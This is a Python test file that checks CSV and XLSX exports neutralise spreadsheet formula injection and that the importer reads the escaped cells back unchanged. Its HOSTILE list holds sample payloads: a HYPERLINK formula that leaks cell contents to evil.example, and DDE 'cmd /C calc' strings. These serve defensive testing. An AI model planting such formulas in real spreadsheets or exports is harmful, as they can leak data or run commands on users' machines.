"""CSV exports escape cells a spreadsheet would run as formulas (OWASP), and the importers read them back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.cli import main as cli
from bot.platform.settings import Settings
from policies import importing
from tabular import MB, Limits, Table, TableFile, csv_bytes, xlsx_bytes
from tests.policies.support import HEADERS, csv_text, policies, prepare, write

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["首店奖励", "'已经以引号开头", "2-3 年", "a=b"]
QUOTED = ["'=1+1", "''-5"]  # typed with quotes on purpose: one more quote on the way out, one less on the way in


def cells_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_cells_starting_with_a_formula_character_are_prefixed_and_read_back(tmp_path: Path) -> None:
    values = [*HOSTILE, *HARMLESS, *QUOTED]
    data = csv_bytes(Table("清单", ["编号", "说明"], [(2, ["Q1", value]) for value in values]))
    written = [row[1] for row in cells_of(data)[1:]]
    assert written == ["'" + value for value in HOSTILE] + HARMLESS + ["'" + value for value in QUOTED]
    path = tmp_path / "清单.csv"
    path.write_bytes(data)
    with TableFile(path, limits=Limits(max_bytes=MB)) as source:
        read = [cells[1] for _, cells in source.table().rows]
    # The importer strips blank edges of every cell (tab, CR) as before; everything else is exactly as exported.
    assert read == [value.strip() for value in values]


def test_xlsx_marks_formula_like_text_as_text_without_changing_it(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    path.write_bytes(xlsx_bytes([Table("清单", ["说明"], [(2, [value]) for value in HOSTILE[:4]])]))
    sheet = load_workbook(path)["清单"]
    cells = [sheet.cell(row=row, column=1) for row in range(2, 6)]
    assert [cell.value for cell in cells] == HOSTILE[:4]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


@pytest.fixture
def env(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> Settings:
    monkeypatch.setenv("APPEALBOT_DATABASE_URL", settings.database_url)
    monkeypatch.setenv("APPEALBOT_LOG_LEVEL", "WARNING")
    prepare(settings)
    return settings


def test_policy_csv_export_is_escaped_and_imports_back_without_a_change(env: Settings, tmp_path: Path) -> None:
    row = ["Q9", HOSTILE[0], "区商务局", HOSTILE[3]]
    write(tmp_path / "in.csv", csv_text([HEADERS, row]))
    assert cli.main(["policies", "import", str(tmp_path / "in.csv")]) == 0
    out = tmp_path / "out.csv"
    assert cli.main(["policies", "export", str(out)]) == 0
    exported = {cells[0]: cells for cells in cells_of(out.read_bytes())}
    assert exported["Q9"][1] == "'" + HOSTILE[0] and "'" + HOSTILE[3] in exported["Q9"]
    before = {code: (policy.version, policy.updated_at) for code, policy in policies(env).items()}
    parsed = {row.raw["code"]: row.raw for row in importing.read_file(out).rows}
    assert parsed["Q9"]["name"] == HOSTILE[0] and parsed["Q9"]["content"] == HOSTILE[3]
    assert cli.main(["policies", "import", str(out)]) == 0
    assert {code: (p.version, p.updated_at) for code, p in policies(env).items()} == before
